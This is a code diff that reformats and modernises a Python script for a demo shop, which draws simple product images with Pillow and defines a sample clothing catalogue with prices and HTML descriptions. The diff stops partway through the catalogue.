@@ -22,9 +22,10 @@ import json
 import random
 import sys
 import uuid
-from datetime import datetime, timedelta, timezone
+from collections.abc import Callable
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
-from typing import Any, Callable
+from typing import Any
 
 from PIL import Image, ImageChops, ImageDraw
 
@@ -36,7 +37,7 @@ if str(ROOT) not in sys.path:  # run as a plain script from anywhere
 SEED = 20240902
 SIZE = 256
 BACKGROUND = (246, 245, 241)
-BASE_TIME = datetime(2024, 9, 2, 8, 0, 0, tzinfo=timezone.utc)
+BASE_TIME = datetime(2024, 9, 2, 8, 0, 0, tzinfo=UTC)
 MAIN_SHOP = "shop-demo"
 OUTLET_SHOP = "shop-demo-outlet"
 
@@ -91,28 +92,66 @@ Shape = Callable[[Draw, tuple, tuple], None]
 def _dress(d: Draw, f: tuple, o: tuple) -> None:
     d.line([(108, 44), (100, 20)], fill=o, width=5)
     d.line([(148, 44), (156, 20)], fill=o, width=5)
-    d.polygon([(104, 44), (128, 70), (152, 44), (162, 112), (206, 226), (50, 226), (94, 112)], fill=f, outline=o, width=3)
+    d.polygon(
+        [(104, 44), (128, 70), (152, 44), (162, 112), (206, 226), (50, 226), (94, 112)], fill=f, outline=o, width=3
+    )
     d.line([(94, 112), (162, 112)], fill=o, width=3)
 
 
 def _tshirt(d: Draw, f: tuple, o: tuple) -> None:
     d.polygon(
-        [(88, 40), (110, 40), (128, 58), (146, 40), (168, 40), (222, 82), (200, 110), (178, 94),
-         (178, 222), (78, 222), (78, 94), (56, 110), (34, 82)],
-        fill=f, outline=o, width=3,
+        [
+            (88, 40),
+            (110, 40),
+            (128, 58),
+            (146, 40),
+            (168, 40),
+            (222, 82),
+            (200, 110),
+            (178, 94),
+            (178, 222),
+            (78, 222),
+            (78, 94),
+            (56, 110),
+            (34, 82),
+        ],
+        fill=f,
+        outline=o,
+        width=3,
     )
 
 
 def _tank(d: Draw, f: tuple, o: tuple) -> None:
-    d.polygon([(96, 30), (110, 30), (128, 70), (146, 30), (160, 30), (170, 96), (180, 224), (76, 224), (86, 96)],
-              fill=f, outline=o, width=3)
+    d.polygon(
+        [(96, 30), (110, 30), (128, 70), (146, 30), (160, 30), (170, 96), (180, 224), (76, 224), (86, 96)],
+        fill=f,
+        outline=o,
+        width=3,
+    )
 
 
 def _longsleeve(d: Draw, f: tuple, o: tuple) -> None:
     d.polygon(
-        [(88, 40), (110, 40), (128, 58), (146, 40), (168, 40), (210, 70), (234, 204), (206, 210),
-         (178, 104), (178, 222), (78, 222), (78, 104), (50, 210), (22, 204), (46, 70)],
-        fill=f, outline=o, width=3,
+        [
+            (88, 40),
+            (110, 40),
+            (128, 58),
+            (146, 40),
+            (168, 40),
+            (210, 70),
+            (234, 204),
+            (206, 210),
+            (178, 104),
+            (178, 222),
+            (78, 222),
+            (78, 104),
+            (50, 210),
+            (22, 204),
+            (46, 70),
+        ],
+        fill=f,
+        outline=o,
+        width=3,
     )
 
 
@@ -136,12 +175,16 @@ def _jacket(d: Draw, f: tuple, o: tuple) -> None:
 
 
 def _pants(d: Draw, f: tuple, o: tuple) -> None:
-    d.polygon([(80, 26), (176, 26), (186, 230), (142, 230), (128, 92), (114, 230), (70, 230)], fill=f, outline=o, width=3)
+    d.polygon(
+        [(80, 26), (176, 26), (186, 230), (142, 230), (128, 92), (114, 230), (70, 230)], fill=f, outline=o, width=3
+    )
     d.line([(80, 44), (176, 44)], fill=o, width=3)
 
 
 def _shorts(d: Draw, f: tuple, o: tuple) -> None:
-    d.polygon([(76, 60), (180, 60), (194, 176), (138, 182), (128, 112), (118, 182), (62, 176)], fill=f, outline=o, width=3)
+    d.polygon(
+        [(76, 60), (180, 60), (194, 176), (138, 182), (128, 112), (118, 182), (62, 176)], fill=f, outline=o, width=3
+    )
     d.line([(76, 78), (180, 78)], fill=o, width=3)
 
 
@@ -154,15 +197,33 @@ def _skirt(d: Draw, f: tuple, o: tuple) -> None:
 
 def _swimsuit(d: Draw, f: tuple, o: tuple) -> None:
     d.polygon(
-        [(96, 28), (110, 28), (128, 76), (146, 28), (160, 28), (168, 120), (190, 200), (150, 194), (128, 170),
-         (106, 194), (66, 200), (88, 120)],
-        fill=f, outline=o, width=3,
+        [
+            (96, 28),
+            (110, 28),
+            (128, 76),
+            (146, 28),
+            (160, 28),
+            (168, 120),
+            (190, 200),
+            (150, 194),
+            (128, 170),
+            (106, 194),
+            (66, 200),
+            (88, 120),
+        ],
+        fill=f,
+        outline=o,
+        width=3,
     )
 
 
 def _sneaker(d: Draw, f: tuple, o: tuple) -> None:
-    d.polygon([(38, 174), (44, 122), (92, 110), (132, 82), (170, 82), (182, 114), (224, 150), (228, 174)],
-              fill=f, outline=o, width=3)
+    d.polygon(
+        [(38, 174), (44, 122), (92, 110), (132, 82), (170, 82), (182, 114), (224, 150), (228, 174)],
+        fill=f,
+        outline=o,
+        width=3,
+    )
     d.rounded_rectangle((30, 170, 232, 198), radius=10, fill=(250, 250, 250), outline=(110, 110, 110), width=3)
     for i in range(4):
         d.line([(110 + 14 * i, 104 - 4 * i), (122 + 14 * i, 118 - 2 * i)], fill=o, width=3)
@@ -175,8 +236,12 @@ def _boot(d: Draw, f: tuple, o: tuple) -> None:
 
 
 def _heel(d: Draw, f: tuple, o: tuple) -> None:
-    d.polygon([(28, 186), (40, 160), (120, 160), (180, 118), (206, 108), (218, 118), (206, 138), (150, 192), (40, 196)],
-              fill=f, outline=o, width=3)
+    d.polygon(
+        [(28, 186), (40, 160), (120, 160), (180, 118), (206, 108), (218, 118), (206, 138), (150, 192), (40, 196)],
+        fill=f,
+        outline=o,
+        width=3,
+    )
     d.polygon([(196, 128), (210, 124), (204, 224), (198, 224)], fill=_darker(f, 0.6))
 
 
@@ -249,8 +314,12 @@ def _beanie(d: Draw, f: tuple, o: tuple) -> None:
 
 
 def _scarf(d: Draw, f: tuple, o: tuple) -> None:
-    d.polygon([(70, 30), (186, 30), (186, 80), (150, 80), (150, 214), (104, 214), (104, 80), (70, 80)],
-              fill=f, outline=o, width=3)
+    d.polygon(
+        [(70, 30), (186, 30), (186, 80), (150, 80), (150, 214), (104, 214), (104, 80), (70, 80)],
+        fill=f,
+        outline=o,
+        width=3,
+    )
     for x in range(106, 150, 8):
         d.line([(x, 214), (x, 234)], fill=o, width=3)
 
@@ -284,11 +353,18 @@ def _belt(d: Draw, f: tuple, o: tuple) -> None:
 def _sunglasses(d: Draw, f: tuple, o: tuple) -> None:
     d.line([(30, 100), (226, 100)], fill=f, width=6)
     for x0 in (36, 140):
-        d.polygon([(x0, 100), (x0 + 80, 100), (x0 + 72, 160), (x0 + 40, 176), (x0 + 8, 160)], fill=(40, 50, 60), outline=f, width=5)
+        d.polygon(
+            [(x0, 100), (x0 + 80, 100), (x0 + 72, 160), (x0 + 40, 176), (x0 + 8, 160)],
+            fill=(40, 50, 60),
+            outline=f,
+            width=5,
+        )
 
 
 def _sock(d: Draw, f: tuple, o: tuple) -> None:
-    d.polygon([(96, 28), (152, 28), (152, 150), (206, 176), (204, 222), (112, 216), (96, 190)], fill=f, outline=o, width=3)
+    d.polygon(
+        [(96, 28), (152, 28), (152, 150), (206, 176), (204, 222), (112, 216), (96, 190)], fill=f, outline=o, width=3
+    )
     d.rectangle((96, 28, 152, 56), fill=_darker(f, 0.85), outline=o, width=3)
 
 
@@ -359,7 +435,14 @@ def _teddy(d: Draw, f: tuple, o: tuple) -> None:
 
 
 def _blocks(d: Draw, f: tuple, o: tuple) -> None:
-    boxes = [(40, 160, 110, 226), (112, 160, 182, 226), (184, 160, 234, 226), (76, 94, 146, 158), (148, 94, 210, 158), (110, 30, 176, 92)]
+    boxes = [
+        (40, 160, 110, 226),
+        (112, 160, 182, 226),
+        (184, 160, 234, 226),
+        (76, 94, 146, 158),
+        (148, 94, 210, 158),
+        (110, 30, 176, 92),
+    ]
     for i, b in enumerate(boxes):
         d.rectangle(b, fill=ACCENTS[i % len(ACCENTS)], outline=(70, 70, 70), width=3)
 
@@ -386,8 +469,21 @@ def _dumbbell(d: Draw, f: tuple, o: tuple) -> None:
     d.rectangle((40, 120, 216, 136), fill=(170, 172, 176), outline=(90, 90, 90), width=2)
     for x0, x1 in ((30, 62), (194, 226), (64, 80), (176, 192)):
         top, bottom = (78, 178) if x1 - x0 > 20 else (96, 160)
-        d.polygon([(x0 + 6, top), (x1 - 6, top), (x1, top + 14), (x1, bottom - 14), (x1 - 6, bottom),
-                   (x0 + 6, bottom), (x0, bottom - 14), (x0, top + 14)], fill=f, outline=o, width=2)
+        d.polygon(
+            [
+                (x0 + 6, top),
+                (x1 - 6, top),
+                (x1, top + 14),
+                (x1, bottom - 14),
+                (x1 - 6, bottom),
+                (x0 + 6, bottom),
+                (x0, bottom - 14),
+                (x0, top + 14),
+            ],
+            fill=f,
+            outline=o,
+            width=2,
+        )
 
 
 def _coffee(d: Draw, f: tuple, o: tuple) -> None:
@@ -399,7 +495,9 @@ def _coffee(d: Draw, f: tuple, o: tuple) -> None:
 
 def _teabox(d: Draw, f: tuple, o: tuple) -> None:
     d.rectangle((56, 60, 200, 220), fill=f, outline=o, width=3)
-    d.polygon([(56, 60), (86, 36), (230, 36), (200, 60)], fill=_darker(f, 1.2) if max(f) < 200 else f, outline=o, width=3)
+    d.polygon(
+        [(56, 60), (86, 36), (230, 36), (200, 60)], fill=_darker(f, 1.2) if max(f) < 200 else f, outline=o, width=3
+    )
     d.ellipse((100, 110, 156, 170), fill=(250, 250, 240))
     d.line([(108, 162), (150, 116)], fill=f, width=3)
 
@@ -449,8 +547,12 @@ def _pillow(d: Draw, f: tuple, o: tuple) -> None:
 
 
 SHAPES: dict[str, Shape] = {
-    name[1:]: fn for name, fn in globals().items() if name.startswith("_") and callable(fn)
-    and name not in ("_darker", "_outline") and getattr(fn, "__module__", None) == __name__
+    name[1:]: fn
+    for name, fn in globals().items()
+    if name.startswith("_")
+    and callable(fn)
+    and name not in ("_darker", "_outline")
+    and getattr(fn, "__module__", None) == __name__
 }
 
 
@@ -534,475 +636,1155 @@ def html(intro: str, bullets: list[str] = (), extra: str = "") -> str:  # type: 
 #   care: key into CARE (apparel) or None; boiler: whether shipping/returns may be appended
 CATALOGUE: list[dict[str, Any]] = [
     # ---------------------------------------------------------------- dresses
-    dict(title="Women's V-Neck Wrap Midi Dress - Red", cat="Apparel & Accessories > Clothing > Dresses",
-         product_type="Dresses", vendor="Maple & Thread", tags=["women", "dresses", "wrap dress", "red", "new arrival"],
-         options=[("Size", SIZES), ("Color", ("Red", "Navy"))], price=89.0,
-         desc=html("A flattering wrap silhouette with a deep V-neck, short flutter sleeves and a tie waist. "
-                   "Falls to a graceful midi length.",
-                   ["100% rayon crepe", "Short sleeves", "Self-tie belt at the waist", "Model is 5'9\" and wears size S"]),
-         care="hand", img=[("dress", "red"), ("dress", "navy")]),
-    dict(title="Floral Sleeveless Maxi Sundress", cat="Apparel & Accessories > Clothing > Dresses",
-         product_type="Dress", vendor="Maple & Thread", tags="women, summer, floral, maxi, dresses",
-         options=[("Size", SIZES)], price=72.5,
-         desc=html("Breezy and romantic: a <strong>sleeveless</strong> maxi dress in a blue floral print with a square neckline "
-                   "and smocked back.", ["100% cotton voile, fully lined", "Adjustable straps", "Side seam pockets"]),
-         care="machine", img=[("dress", "blue", "floral")]),
-    dict(title="Little Black Dress - Long Sleeve Crew Neck Mini", cat="Apparel & Accessories > Clothing > Dresses",
-         product_type="Dresses", vendor="Noir Atelier", tags=["LBD", "women", "party", "black"],
-         options=[("Size", ("XS", "S", "M", "L"))], price=64.0,
-         desc=html("The little black dress, perfected. Long sleeves, a clean crew neckline and a mini hemline that hits mid-thigh.",
-                   ["95% polyester, 5% elastane", "Concealed back zip", "Stretch fit"]),
-         care="machine", img=[("dress", "black")]),
-    dict(title="Linen Square-Neck Midi Dress in Sand", cat="Apparel & Accessories > Clothing > Dresses",
-         product_type="Dresses", vendor="Coastline Linen Co.", tags=["linen", "women", "beige", "vacation"],
-         options=[("Size", SIZES)], price=98.0,
-         desc=html("Washed European linen in a warm sand (beige) tone. Square neckline, cap sleeves and a relaxed A-line skirt to mid-calf.",
-                   ["100% linen", "Cap sleeves", "Midi length, 47\" from shoulder"]),
-         care="machine", img=[("dress", "beige")]),
-    dict(title="Sweetheart Satin Wedding Gown", cat="Apparel & Accessories > Clothing > Wedding & Bridal Party Dresses > Wedding Dresses",
-         product_type="Bridal", vendor="Belle Bridal", tags=["bridal", "wedding dress", "ivory", "strapless"],
-         options=[("Size", ("2", "4", "6", "8", "10", "12"))], price=1250.0,
-         desc=html("A timeless <em>strapless</em> ballgown with a sweetheart neckline, structured satin bodice and a sweeping floor-length maxi skirt with chapel train.",
-                   ["Duchess satin (polyester)", "Corset lace-up back", "Colour: ivory / white"],
-                   "<p>Made to order &ndash; please allow 12&ndash;16 weeks. Alterations not included.</p>"),
-         care="dry", img=[("dress", "ivory")]),
+    dict(
+        title="Women's V-Neck Wrap Midi Dress - Red",
+        cat="Apparel & Accessories > Clothing > Dresses",
+        product_type="Dresses",
+        vendor="Maple & Thread",
+        tags=["women", "dresses", "wrap dress", "red", "new arrival"],
+        options=[("Size", SIZES), ("Color", ("Red", "Navy"))],
+        price=89.0,
+        desc=html(
+            "A flattering wrap silhouette with a deep V-neck, short flutter sleeves and a tie waist. "
+            "Falls to a graceful midi length.",
+            ["100% rayon crepe", "Short sleeves", "Self-tie belt at the waist", "Model is 5'9\" and wears size S"],
+        ),
+        care="hand",
+        img=[("dress", "red"), ("dress", "navy")],
+    ),
+    dict(
+        title="Floral Sleeveless Maxi Sundress",
+        cat="Apparel & Accessories > Clothing > Dresses",
+        product_type="Dress",
+        vendor="Maple & Thread",
+        tags="women, summer, floral, maxi, dresses",
+        options=[("Size", SIZES)],
+        price=72.5,
+        desc=html(
+            "Breezy and romantic: a <strong>sleeveless</strong> maxi dress in a blue floral print with a square neckline "
+            "and smocked back.",
+            ["100% cotton voile, fully lined", "Adjustable straps", "Side seam pockets"],
+        ),
+        care="machine",
+        img=[("dress", "blue", "floral")],
+    ),
+    dict(
+        title="Little Black Dress - Long Sleeve Crew Neck Mini",
+        cat="Apparel & Accessories > Clothing > Dresses",
+        product_type="Dresses",
+        vendor="Noir Atelier",
+        tags=["LBD", "women", "party", "black"],
+        options=[("Size", ("XS", "S", "M", "L"))],
+        price=64.0,
+        desc=html(
+            "The little black dress, perfected. Long sleeves, a clean crew neckline and a mini hemline that hits mid-thigh.",
+            ["95% polyester, 5% elastane", "Concealed back zip", "Stretch fit"],
+        ),
+        care="machine",
+        img=[("dress", "black")],
+    ),
+    dict(
+        title="Linen Square-Neck Midi Dress in Sand",
+        cat="Apparel & Accessories > Clothing > Dresses",
+        product_type="Dresses",
+        vendor="Coastline Linen Co.",
+        tags=["linen", "women", "beige", "vacation"],
+        options=[("Size", SIZES)],
+        price=98.0,
+        desc=html(
+            "Washed European linen in a warm sand (beige) tone. Square neckline, cap sleeves and a relaxed A-line skirt to mid-calf.",
+            ["100% linen", "Cap sleeves", 'Midi length, 47" from shoulder'],
+        ),
+        care="machine",
+        img=[("dress", "beige")],
+    ),
+    dict(
+        title="Sweetheart Satin Wedding Gown",
+        cat="Apparel & Accessories > Clothing > Wedding & Bridal Party Dresses > Wedding Dresses",
+        product_type="Bridal",
+        vendor="Belle Bridal",
+        tags=["bridal", "wedding dress", "ivory", "strapless"],
+        options=[("Size", ("2", "4", "6", "8", "10", "12"))],
+        price=1250.0,
+        desc=html(
+            "A timeless <em>strapless</em> ballgown with a sweetheart neckline, structured satin bodice and a sweeping floor-length maxi skirt with chapel train.",
+            ["Duchess satin (polyester)", "Corset lace-up back", "Colour: ivory / white"],
+            "<p>Made to order &ndash; please allow 12&ndash;16 weeks. Alterations not included.</p>",
+        ),
+        care="dry",
+        img=[("dress", "ivory")],
+    ),
     # ---------------------------------------------------------------- tops
-    dict(title="Men's Classic Crew Neck Tee - 100% Cotton", cat="Apparel & Accessories > Clothing > Clothing Tops > T-Shirts",
-         product_type="T-Shirts", vendor="Northline Outfitters", tags=["men", "basics", "t-shirt", "cotton"],
-         options=[("Size", ("S", "M", "L", "XL", "XXL")), ("Color", ("White", "Black", "Heather Gray"))], price=24.0,
-         desc=html("Our everyday men's tee in heavyweight 100% cotton jersey. Crew neck, short sleeves, a regular fit that holds its shape wash after wash.",
-                   ["100% combed ring-spun cotton, 180 gsm", "Short sleeve", "Pre-shrunk"]),
-         care="machine", img=[("tshirt", "white")]),
-    dict(title="Women's V-Neck Organic Cotton Tee", cat="Apparel & Accessories > Clothing > Clothing Tops > T-Shirts",
-         product_type="Tops", vendor="Maple & Thread", tags=["women", "organic", "tees", "pink"],
-         options=[("Size", SIZES), ("Color", ("Blush Pink",))], price=28.0,
-         desc=html("A soft, slightly slouchy V-neck tee for women in GOTS-certified organic cotton. Colour: blush pink.",
-                   ["100% organic cotton", "Short sleeves with rolled cuff", "Relaxed fit"]),
-         care="machine", img=[("tshirt", "pink")]),
-    dict(title="Men's Dri-Tech Running Tee", cat="Apparel & Accessories > Clothing > Activewear > Activewear Tops > T-Shirts",
-         product_type="Activewear", vendor="Stride Athletics", tags=["running", "men", "activewear", "moisture-wicking"],
-         options=[("Size", ("S", "M", "L", "XL")), ("Color", ("Charcoal Gray", "Electric Blue"))], price=35.0,
-         desc=html("Built for running: a lightweight, <strong>moisture-wicking</strong> and quick-drying performance tee with flatlock seams.",
-                   ["100% recycled polyester mesh", "Short sleeve, crew neck", "Reflective logo for low-light runs"]),
-         care="machine", img=[("tshirt", "gray"), ("tshirt", "blue")]),
-    dict(title="Ribbed Racerback Tank Top", cat="Apparel & Accessories > Clothing > Clothing Tops > Tank Tops",
-         product_type="Tops", vendor="Noir Atelier", tags=["women", "tank", "basics", "black"],
-         options=[("Size", ("XS", "S", "M", "L")), ("Color", ("Black",))], price=19.0,
-         desc=html("A fitted, sleeveless rib-knit tank with a racerback and a scoop (round) neckline. Layer it or wear it solo.",
-                   ["92% cotton, 8% spandex", "Sleeveless", "Cropped length"]),
-         care="machine", img=[("tank", "black")]),
-    dict(title="Silk Button-Front Blouse, Long Sleeve", cat="Apparel & Accessories > Clothing > Clothing Tops > Blouses",
-         product_type="Blouses", vendor="Noir Atelier", tags=["women", "silk", "workwear", "ivory"],
-         options=[("Size", SIZES), ("Color", ("Ivory",))], price=145.0,
-         desc=html("Fluid 100% mulberry silk in ivory. A classic collared blouse for women with long sleeves, button cuffs and a relaxed drape.",
-                   ["100% silk charmeuse, 19 momme", "Long sleeves", "Mother-of-pearl buttons"]),
-         care="dry", img=[("longsleeve", "ivory")]),
-    dict(title="Merino Wool Crew Neck Sweater - Navy", cat="Apparel & Accessories > Clothing > Clothing Tops > Sweaters",
-         product_type="Knitwear", vendor="Northline Outfitters", tags=["men", "knitwear", "merino", "navy"],
-         options=[("Size", ("S", "M", "L", "XL"))], price=110.0,
-         desc=html("Fine-gauge extra-fine merino wool knit in a crew neck. Warm, breathable and itch-free.",
-                   ["100% merino wool", "Ribbed cuffs and hem", "Men's regular fit"]),
-         care="hand", img=[("longsleeve", "navy")]),
-    dict(title="Unisex Heavyweight Pullover Hoodie", cat="Apparel & Accessories > Clothing > Clothing Tops > Hoodies",
-         product_type="Sweatshirts", vendor="Northline Outfitters", tags=["unisex", "hoodie", "fleece", "gray"],
-         options=[("Size", ("XS", "S", "M", "L", "XL", "XXL")), ("Color", ("Heather Gray", "Black", "Forest Green"))], price=58.0,
-         desc=html("A cozy unisex hooded sweatshirt in brushed-back fleece with a kangaroo pocket and a lined hood.",
-                   ["80% cotton, 20% polyester fleece, 400 gsm", "Long sleeve with ribbed cuffs", "Drawcord hood"]),
-         care="machine", img=[("hoodie", "gray"), ("hoodie", "black")]),
-    dict(title="Women's Full-Zip Training Hoodie", cat="Apparel & Accessories > Clothing > Activewear > Activewear Sweatshirts & Hoodies > Hoodies",
-         product_type="Activewear", vendor="Stride Athletics", tags=["women", "training", "hoodie", "purple"],
-         options=[("Size", ("XS", "S", "M", "L", "XL")), ("Color", ("Purple",))], price=68.0,
-         desc=html("Light, stretchy and made to move: a women's full-zip training hoodie with thumbholes and zip pockets.",
-                   ["88% polyester, 12% elastane", "Long sleeves with thumbholes", "Moisture-wicking, quick drying"]),
-         care="machine", img=[("hoodie", "purple")]),
-    dict(title="Flannel Pajama Set - Pink Plaid", cat="Apparel & Accessories > Clothing > Sleepwear & Loungewear > Pajamas",
-         product_type="Sleepwear", vendor="Maple & Thread", tags=["women", "sleepwear", "pajamas", "plaid", "gift"],
-         options=[("Size", SIZES)], price=54.0,
-         desc=html("Brushed cotton flannel pajama set for women in a pink plaid: long-sleeve notch-collar top and drawstring pants.",
-                   ["100% cotton flannel", "Long sleeves", "Elastic drawstring waist"]),
-         care="machine", img=[("longsleeve", "pink", "plaid")]),
+    dict(
+        title="Men's Classic Crew Neck Tee - 100% Cotton",
+        cat="Apparel & Accessories > Clothing > Clothing Tops > T-Shirts",
+        product_type="T-Shirts",
+        vendor="Northline Outfitters",
+        tags=["men", "basics", "t-shirt", "cotton"],
+        options=[("Size", ("S", "M", "L", "XL", "XXL")), ("Color", ("White", "Black", "Heather Gray"))],
+        price=24.0,
+        desc=html(
+            "Our everyday men's tee in heavyweight 100% cotton jersey. Crew neck, short sleeves, a regular fit that holds its shape wash after wash.",
+            ["100% combed ring-spun cotton, 180 gsm", "Short sleeve", "Pre-shrunk"],
+        ),
+        care="machine",
+        img=[("tshirt", "white")],
+    ),
+    dict(
+        title="Women's V-Neck Organic Cotton Tee",
+        cat="Apparel & Accessories > Clothing > Clothing Tops > T-Shirts",
+        product_type="Tops",
+        vendor="Maple & Thread",
+        tags=["women", "organic", "tees", "pink"],
+        options=[("Size", SIZES), ("Color", ("Blush Pink",))],
+        price=28.0,
+        desc=html(
+            "A soft, slightly slouchy V-neck tee for women in GOTS-certified organic cotton. Colour: blush pink.",
+            ["100% organic cotton", "Short sleeves with rolled cuff", "Relaxed fit"],
+        ),
+        care="machine",
+        img=[("tshirt", "pink")],
+    ),
+    dict(
+        title="Men's Dri-Tech Running Tee",
+        cat="Apparel & Accessories > Clothing > Activewear > Activewear Tops > T-Shirts",
+        product_type="Activewear",
+        vendor="Stride Athletics",
+        tags=["running", "men", "activewear", "moisture-wicking"],
+        options=[("Size", ("S", "M", "L", "XL")), ("Color", ("Charcoal Gray", "Electric Blue"))],
+        price=35.0,
+        desc=html(
+            "Built for running: a lightweight, <strong>moisture-wicking</strong> and quick-drying performance tee with flatlock seams.",
+            ["100% recycled polyester mesh", "Short sleeve, crew neck", "Reflective logo for low-light runs"],
+        ),
+        care="machine",
+        img=[("tshirt", "gray"), ("tshirt", "blue")],
+    ),
+    dict(
+        title="Ribbed Racerback Tank Top",
+        cat="Apparel & Accessories > Clothing > Clothing Tops > Tank Tops",
+        product_type="Tops",
+        vendor="Noir Atelier",
+        tags=["women", "tank", "basics", "black"],
+        options=[("Size", ("XS", "S", "M", "L")), ("Color", ("Black",))],
+        price=19.0,
+        desc=html(
+            "A fitted, sleeveless rib-knit tank with a racerback and a scoop (round) neckline. Layer it or wear it solo.",
+            ["92% cotton, 8% spandex", "Sleeveless", "Cropped length"],
+        ),
+        care="machine",
+        img=[("tank", "black")],
+    ),
+    dict(
+        title="Silk Button-Front Blouse, Long Sleeve",
+        cat="Apparel & Accessories > Clothing > Clothing Tops > Blouses",
+        product_type="Blouses",
+        vendor="Noir Atelier",
+        tags=["women", "silk", "workwear", "ivory"],
+        options=[("Size", SIZES), ("Color", ("Ivory",))],
+        price=145.0,
+        desc=html(
+            "Fluid 100% mulberry silk in ivory. A classic collared blouse for women with long sleeves, button cuffs and a relaxed drape.",
+            ["100% silk charmeuse, 19 momme", "Long sleeves", "Mother-of-pearl buttons"],
+        ),
+        care="dry",
+        img=[("longsleeve", "ivory")],
+    ),
+    dict(
+        title="Merino Wool Crew Neck Sweater - Navy",
+        cat="Apparel & Accessories > Clothing > Clothing Tops > Sweaters",
+        product_type="Knitwear",
+        vendor="Northline Outfitters",
+        tags=["men", "knitwear", "merino", "navy"],
+        options=[("Size", ("S", "M", "L", "XL"))],
+        price=110.0,
+        desc=html(
+            "Fine-gauge extra-fine merino wool knit in a crew neck. Warm, breathable and itch-free.",
+            ["100% merino wool", "Ribbed cuffs and hem", "Men's regular fit"],
+        ),
+        care="hand",
+        img=[("longsleeve", "navy")],
+    ),
+    dict(
+        title="Unisex Heavyweight Pullover Hoodie",
+        cat="Apparel & Accessories > Clothing > Clothing Tops > Hoodies",
+        product_type="Sweatshirts",
+        vendor="Northline Outfitters",
+        tags=["unisex", "hoodie", "fleece", "gray"],
+        options=[("Size", ("XS", "S", "M", "L", "XL", "XXL")), ("Color", ("Heather Gray", "Black", "Forest Green"))],
+        price=58.0,
+        desc=html(
+            "A cozy unisex hooded sweatshirt in brushed-back fleece with a kangaroo pocket and a lined hood.",
+            ["80% cotton, 20% polyester fleece, 400 gsm", "Long sleeve with ribbed cuffs", "Drawcord hood"],
+        ),
+        care="machine",
+        img=[("hoodie", "gray"), ("hoodie", "black")],
+    ),
+    dict(
+        title="Women's Full-Zip Training Hoodie",
+        cat="Apparel & Accessories > Clothing > Activewear > Activewear Sweatshirts & Hoodies > Hoodies",
+        product_type="Activewear",
+        vendor="Stride Athletics",
+        tags=["women", "training", "hoodie", "purple"],
+        options=[("Size", ("XS", "S", "M", "L", "XL")), ("Color", ("Purple",))],
+        price=68.0,
+        desc=html(
+            "Light, stretchy and made to move: a women's full-zip training hoodie with thumbholes and zip pockets.",
+            ["88% polyester, 12% elastane", "Long sleeves with thumbholes", "Moisture-wicking, quick drying"],
+        ),
+        care="machine",
+        img=[("hoodie", "purple")],
+    ),
+    dict(
+        title="Flannel Pajama Set - Pink Plaid",
+        cat="Apparel & Accessories > Clothing > Sleepwear & Loungewear > Pajamas",
+        product_type="Sleepwear",
+        vendor="Maple & Thread",
+        tags=["women", "sleepwear", "pajamas", "plaid", "gift"],
+        options=[("Size", SIZES)],
+        price=54.0,
+        desc=html(
+            "Brushed cotton flannel pajama set for women in a pink plaid: long-sleeve notch-collar top and drawstring pants.",
+            ["100% cotton flannel", "Long sleeves", "Elastic drawstring waist"],
+        ),
+        care="machine",
+        img=[("longsleeve", "pink", "plaid")],
+    ),
     # ---------------------------------------------------------------- bottoms
-    dict(title="Men's Slim Fit Stretch Jeans - Dark Wash", cat="Apparel & Accessories > Clothing > Pants > Jeans",
-         product_type="Jeans", vendor="Indigo Supply", tags=["men", "denim", "jeans", "slim fit"],
-         options=[("Waist", ("30", "32", "34", "36")), ("Length", ("30", "32", "34"))], price=79.0,
-         desc=html("Slim fit jeans cut from stretch denim with a mid-rise waist and a tapered leg. Dark indigo (navy blue) wash.",
-                   ["98% cotton, 2% elastane denim", "5-pocket styling", "Zip fly"]),
-         care="machine", img=[("pants", "denim")]),
-    dict(title="Women's High-Rise Straight Leg Jeans", cat="Apparel & Accessories > Clothing > Pants > Jeans",
-         product_type="Jeans", vendor="Indigo Supply", tags=["women", "denim", "jeans", "high rise"],
-         options=[("Size", ("24", "25", "26", "27", "28", "29", "30", "31"))], price=88.0,
-         desc=html("A high-rise, straight leg jean in a light blue vintage wash. Rigid 100% cotton denim that softens with every wear.",
-                   ["100% cotton denim", "High rise: 11\"", "Full length, 30\" inseam"]),
-         care="machine", img=[("pants", "lightblue")]),
-    dict(title="Men's Slim Chino Pants", cat="Apparel & Accessories > Clothing > Pants > Chinos",
-         product_type="Pants", vendor="Northline Outfitters", tags=["men", "chinos", "workwear"],
-         options=[("Waist", ("30", "32", "34", "36", "38")), ("Color", ("Khaki", "Navy", "Olive"))], price=65.0,
-         desc=html("Versatile men's chinos in stretch cotton twill with a slim fit and a clean, flat front. Colour shown: khaki (beige).",
-                   ["97% cotton, 3% elastane", "Slim fit", "Slant front pockets"]),
-         care="machine", img=[("pants", "beige"), ("pants", "navy")]),
-    dict(title="High-Waisted Yoga Leggings with Pockets", cat="Apparel & Accessories > Clothing > Activewear > Activewear Pants > Leggings",
-         product_type="Leggings", vendor="Stride Athletics", tags=["women", "yoga", "leggings", "squat-proof"],
-         options=[("Size", SIZES), ("Color", ("Black", "Deep Navy"))], price=59.0,
-         desc=html("Buttery-soft, squat-proof leggings with a high-waisted, high-rise band and two side pockets. Full-length, 7/8 available.",
-                   ["75% nylon, 25% lycra spandex", "Moisture-wicking, four-way stretch", "Hidden waistband key pocket"]),
-         care="machine", img=[("pants", "black")]),
-    dict(title="Men's Tapered Fleece Joggers - Olive", cat="Apparel & Accessories > Clothing > Activewear > Activewear Pants > Joggers",
-         product_type="Joggers", vendor="Stride Athletics", tags=["men", "joggers", "athleisure", "olive green"],
-         options=[("Size", ("S", "M", "L", "XL"))], price=55.0,
-         desc=html("Tapered men's joggers in midweight fleece with ribbed cuffs, an elastic drawstring waist and zip pockets. Colour: olive green.",
-                   ["60% cotton, 40% polyester fleece", "Tapered fit", "Elastic cuffs"]),
-         care="machine", img=[("pants", "olive")]),
-    dict(title="Women's Cut-Off Denim Shorts", cat="Apparel & Accessories > Clothing > Shorts > Denim Shorts",
-         product_type="Shorts", vendor="Indigo Supply", tags=["women", "denim", "shorts", "summer"],
-         options=[("Size", ("24", "25", "26", "27", "28", "29", "30"))], price=48.0,
-         desc=html("Frayed-hem cut-off denim shorts for women, mid-rise with a relaxed fit, in a classic medium blue wash.",
-                   ["100% cotton denim", "3\" inseam", "Raw hem"]),
-         care="machine", img=[("shorts", "blue")]),
-    dict(title="Pleated Satin Midi Skirt - Emerald", cat="Apparel & Accessories > Clothing > Skirts",
-         product_type="Skirts", vendor="Noir Atelier", tags=["women", "skirt", "satin", "green"],
-         options=[("Size", ("XS", "S", "M", "L"))], price=76.0,
